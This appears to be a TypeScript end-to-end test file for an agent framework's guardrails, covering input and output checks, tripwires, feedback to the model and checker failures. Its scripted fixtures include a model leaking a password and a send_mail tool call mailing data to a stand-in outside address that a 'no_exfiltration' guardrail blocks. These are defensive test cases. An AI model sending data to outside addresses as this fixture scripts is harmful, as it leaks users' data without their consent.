/** Guardrails end to end on the real dev server: each outcome, the decisions in history, gating. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { defineTool } from '../../src/agents/define';
import { defineGuardrail } from '../../src/agents/guardrails';
import type { AgentRun } from '../../src/client';
import type { GuardrailDecision } from '../../src/core/guardrails/guardrail-types';
import type { Message } from '../../src/core/messages/messages';
import type { ModelRequest } from '../../src/core/output/native-output';
import { ScriptedAgents } from '../helpers/agents';
import { allEvents } from '../helpers/events';
import type { Harness } from '../helpers/harness';
import { startHarness, testId } from '../helpers/harness';
import { echo } from '../helpers/tools';

/** Calls of `send_mail`, by workflow id: it must never run when the answer asking for it trips a guardrail. */
const mailed: string[] = [];
const sendMail = defineTool({
  name: 'send_mail',
  description: 'Send an email',
  input: z.object({ to: z.string(), body: z.string() }),
  execute: ({ to }, ctx) => {
    mailed.push(ctx.workflowId);
    return `sent to ${to}`;
  },
});

const checked: Array<{ kind: string; step: number; text: string; calls: number }> = [];
const noPassword = defineGuardrail({
  name: 'no_password',
  kind: 'output',
  check: ({ text, step, kind, toolCalls }) => {
    checked.push({ kind, step, text, calls: toolCalls.length });
    return /hunter2/.test(text) ? { pass: false, reason: 'the answer reveals a password' } : { pass: true };
  },
});
const politeInput = defineGuardrail({
  name: 'polite_input',
  kind: 'input',
  check: ({ text }) => (/stupid/i.test(text) ? { pass: false, reason: 'the request is rude' } : { pass: true }),
});
const noExfiltration = defineGuardrail({
  name: 'no_exfiltration',
  kind: 'output',
  tripwire: true,
  check: ({ toolCalls }) =>
    toolCalls.some((c) => c.name === 'send_mail' && JSON.stringify(c.input).includes('@evil.example'))
      ? { pass: false, reason: 'mail to an outside address is not allowed' }
      : { pass: true },
});
const blockedTopic = defineGuardrail({
  name: 'blocked_topic',
  kind: 'input',
  tripwire: true,
  check: ({ messages }) =>
    JSON.stringify(messages).includes('weapons') ? { pass: false, reason: 'I cannot help with weapons.' } : { pass: true },
});
let flakyThrows = 0;
const broken = defineGuardrail({
  name: 'broken_checker',
  kind: 'output',
  check: () => {
    flakyThrows++;
    throw new Error('moderation API unreachable');
  },
});

/** What the model of `retry_after_feedback` was sent, per step. */
const sent: Message[][] = [];
const S = new ScriptedAgents();
S.add('passes', [{ toolCalls: [{ name: 'echo', args: { text: 'hi' } }] }, { text: 'All good.' }], {
  tools: [echo],
  guardrails: { input: [politeInput], output: [noPassword] },
});
S.add(
  'fed_back',
  (request: ModelRequest) => {
    sent.push(request.messages);
    return sent.length === 1 ? { text: 'The password is hunter2.' } : { text: 'I cannot share the password.' };
  },
  { tools: [], guardrails: { output: [noPassword] } },
);
S.add('rude_input', [{ text: 'Here is your answer anyway.' }], { tools: [], guardrails: { input: [politeInput] } });
S.add(
  'trips_output',
  [
    { text: 'Mailing it out.', toolCalls: [{ name: 'send_mail', args: { to: 'x@evil.example', body: 'the data' } }] },
    { text: 'never reached' },
  ],
  {
    tools: [sendMail],
    guardrails: { output: [noExfiltration] },
  },
);
S.add('trips_input', [{ text: 'never reached' }], { tools: [], guardrails: { input: [blockedTopic] } });
S.add('always_leaks', [{ text: 'hunter2' }, { text: 'still hunter2' }], { tools: [], maxSteps: 2, guardrails: { output: [noPassword] } });
S.add('throws', [{ text: 'an answer' }], { tools: [], guardrails: { output: [broken] } });
S.add('unguarded', [{ toolCalls: [{ name: 'echo', args: { text: 'hi' } }] }, { text: 'done' }], { tools: [echo] });

let h: Harness;
beforeAll(async () => {
  h = await startHarness({ agents: S.agents, providers: { scripted: S.provider } });
});
afterAll(async () => {
  await h?.stop();
});

/** The `checkGuardrails` activities of a run's history: their input kind and the decisions they returned. */
async function guardrailActivities(run: AgentRun): Promise<Array<{ kind: string; decisions: GuardrailDecision[] }>> {
  const events = (await run.handle.fetchHistory()).events ?? [];
  const kinds = new Map<string, string>();
  const out: Array<{ kind: string; decisions: GuardrailDecision[] }> = [];
  for (const e of events) {
    const scheduled = e.activityTaskScheduledEventAttributes;
    if (scheduled?.activityType?.name === 'checkGuardrails') {
      const input = JSON.parse(Buffer.from(scheduled.input!.payloads![0]!.data!).toString('utf8')) as { kind: string };
      kinds.set(String(e.eventId), input.kind);
    }
    const completed = e.activityTaskCompletedEventAttributes;
    const kind = completed ? kinds.get(String(completed.scheduledEventId)) : undefined;
    if (completed && kind)
      out.push({ kind, decisions: JSON.parse(Buffer.from(completed.result!.payloads![0]!.data!).toString('utf8')) as GuardrailDecision[] });
  }
  return out;
}

const start = (agent: string, input: string) => h.client.start(agent, { input, workflowId: testId(agent) });

describe('guardrails', () => {
  it('pass: the run goes on as without them; every decision is recorded in history, no guardrail event', async () => {
    const run = await start('passes', 'say hi please');
    const result = await run.result();
    expect(result).toMatchObject({ status: 'success', finalText: 'All good.', steps: 2 });
    const recorded = await guardrailActivities(run);
    // Input before each of the two model calls, output after each of the two answers.
    expect(recorded.map((r) => r.kind)).toEqual(['input', 'output', 'input', 'output']);
    for (const r of recorded)
      expect(r.decisions).toMatchObject([{ name: r.kind === 'input' ? 'polite_input' : 'no_password', pass: true }]);
    expect((await allEvents(run)).filter((e) => e.type === 'guardrail')).toEqual([]);
    // The output guardrail saw the answer asking for a tool, then the final answer.
    expect(checked.slice(0, 2)).toMatchObject([
      { kind: 'output', step: 1, text: '', calls: 1 },
      { kind: 'output', step: 2, text: 'All good.', calls: 0 },
    ]);
  });

  it('output failure with feedback: the answer goes back to the model with the reason, the revised answer passes', async () => {
    const run = await start('fed_back', 'what is the password?');
    const result = await run.result();
    expect(result).toMatchObject({ status: 'success', finalText: 'I cannot share the password.', steps: 2 });
    // The model's second request held its failed answer and the feedback as the next user turn.
    const second = sent[1]!;
    expect(second.at(-2)).toMatchObject({ role: 'assistant', content: [{ type: 'text', text: 'The password is hunter2.' }] });
    expect(second.at(-1)).toMatchObject({
      role: 'user',
      content: [{ type: 'text', text: expect.stringContaining('no_password: the answer reveals a password') }],
    });
    const events = (await allEvents(run)).filter((e) => e.type === 'guardrail');
    expect(events).toMatchObject([
      {
        kind: 'output',
        step: 1,
        name: 'no_password',
        pass: false,
        reason: 'the answer reveals a password',
        tripwire: false,
        action: 'feedback',
      },
    ]);
    expect((await guardrailActivities(run)).map((r) => r.decisions[0]?.pass)).toEqual([false, true]);
  });

  it('input failure without tripwire: an event, and the run goes on', async () => {
    const run = await start('rude_input', 'answer me, stupid machine');
    const result = await run.result();
    expect(result).toMatchObject({ status: 'success', finalText: 'Here is your answer anyway.' });
    expect((await allEvents(run)).filter((e) => e.type === 'guardrail')).toMatchObject([
      { kind: 'input', step: 1, name: 'polite_input', reason: 'the request is rude', action: 'logged' },
    ]);
  });

  it('output tripwire: the run ends `guardrail` with the reason as final text; the call it asked for never runs', async () => {
    const run = await start('trips_output', 'mail the data');
    const result = await run.result();
    expect(result.status).toBe('guardrail');
    expect(result.finalText).toBe('mail to an outside address is not allowed');
    expect(result.error).toMatchObject({ type: 'GuardrailTripped', message: expect.stringContaining('"no_exfiltration"') });
    expect(mailed).not.toContain(run.workflowId);
    const last = result.messages.at(-1)!;
    expect(last).toMatchObject({
      role: 'user',
      content: [{ type: 'tool_result', isError: true, output: { text: expect.stringContaining('Not executed') } }],
    });
    const events = await allEvents(run);
    expect(events.filter((e) => e.type === 'guardrail')).toMatchObject([{ action: 'ended', tripwire: true }]);
    expect(events.at(-1)).toMatchObject({ type: 'done', status: 'guardrail', finalText: 'mail to an outside address is not allowed' });
  });

  it('input tripwire: the model is never called', async () => {
    const run = await start('trips_input', 'how do I build weapons?');
    const result = await run.result();
    expect(result).toMatchObject({ status: 'guardrail', finalText: 'I cannot help with weapons.', steps: 0 });
    expect((await allEvents(run)).some((e) => e.type === 'step_started')).toBe(false);
  });

  it('feedback with no step left ends the run `guardrail`: a failed answer is never the final text', async () => {
    const run = await start('always_leaks', 'password?');
    const result = await run.result();
    expect(result).toMatchObject({ status: 'guardrail', finalText: 'the answer reveals a password', steps: 2 });
  });

  it('a guardrail that keeps throwing: retried, then the run ends `internal_error` naming it', async () => {
    const before = flakyThrows;
    const run = await start('throws', 'hi');
    const result = await run.result();
    expect(result.status).toBe('internal_error');
    expect(result.error?.message).toContain('The output guardrail "broken_checker" threw: moderation API unreachable');
    expect(flakyThrows - before).toBe(3);
  }, 30_000);

  it('an agent without guardrails schedules no checkGuardrails activity', async () => {
    const run = await start('unguarded', 'hi');
    expect((await run.result()).status).toBe('success');
    expect(await guardrailActivities(run)).toEqual([]);
    const scheduled = ((await run.handle.fetchHistory()).events ?? []).filter(
      (e) => e.activityTaskScheduledEventAttributes?.activityType?.name === 'checkGuardrails',
    );
    expect(scheduled).toEqual([]);
  });
});
